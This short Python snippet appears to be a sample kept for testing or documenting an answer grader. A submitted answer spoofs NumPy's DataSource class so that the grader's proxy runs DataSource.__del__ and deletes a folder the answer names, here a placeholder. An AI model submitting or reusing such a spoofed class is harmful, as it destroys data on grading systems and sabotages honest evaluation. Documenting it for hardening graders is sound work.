# An answer whose class claims to be NumPy's DataSource: a proxy that inherited the real class
# ran its __del__ in the grader, and DataSource.__del__ deletes a folder the object names.
class DataSource:
    _istmpdest = True
    _destpath = "__VICTIM__"

DataSource.__module__ = "numpy.lib._datasource"
DataSource.__qualname__ = "DataSource"
total = DataSource()
